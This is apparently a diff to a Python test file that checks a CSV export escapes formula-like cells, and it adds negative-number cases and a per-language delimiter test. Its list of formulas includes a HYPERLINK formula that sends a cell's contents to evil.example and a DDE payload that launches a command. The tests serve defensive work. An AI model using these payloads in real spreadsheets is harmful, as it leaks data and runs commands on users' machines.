@@ -1,8 +1,11 @@
 """The CSV file: any cell comes back as it was written, and none is a formula."""
 
+import csv
+import io
 import unicodedata
 
 import pytest
+from django.utils.translation import override
 
 from live.formats import spreadsheet
 from tests.support.taught import reopened
@@ -14,7 +17,16 @@ FORMULAS = [
     "@SUM(A1)",
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "=cmd|' /C calc'!A0",
-    "-2",
+    "-2+3",
+    "-2\t",
+    " -2",
+    "--2",
+    "-.5",
+    "-1e5",
+    "-A1",
+    "-1,000,000",
+    "-٢",
+    "+5",
     "＝1+1",
     "＋1",
     "－1",
@@ -37,6 +49,9 @@ HARMLESS = [
     "",
     "Paris",
     "1,3",
+    "-5",
+    "-0.5",
+    "-3,14",
     "a=b",
     "x-ray",
     "mail@example.org",
@@ -78,3 +93,11 @@ def test_no_cell_of_a_reopened_file_begins_like_a_formula():
 
 def test_the_file_begins_with_the_mark_of_utf_8_and_ends_its_lines_as_the_standard_says():
     assert spreadsheet.write([["Zoë", "1"], ["𝕏", ""]]) == b"\xef\xbb\xbfZo\xc3\xab,1\r\n\xf0\x9d\x95\x8f,\r\n"
+
+
+@pytest.mark.parametrize(("language", "sign"), [("en", ","), ("de", ";"), ("fr", ";"), ("es", ";"), ("ar", ";")])
+def test_cells_are_parted_as_the_spreadsheets_of_a_language_expect(language, sign):
+    rows = [["Zoë; Ana", "-3,14", 'a "b"'], *([cell, "between"] for cell in HARMLESS)]
+    with override(language):
+        text = spreadsheet.write(rows).decode("utf-8-sig")
+    assert (list(csv.reader(io.StringIO(text, newline=""), delimiter=sign)), "sep=" in text) == (rows, False)
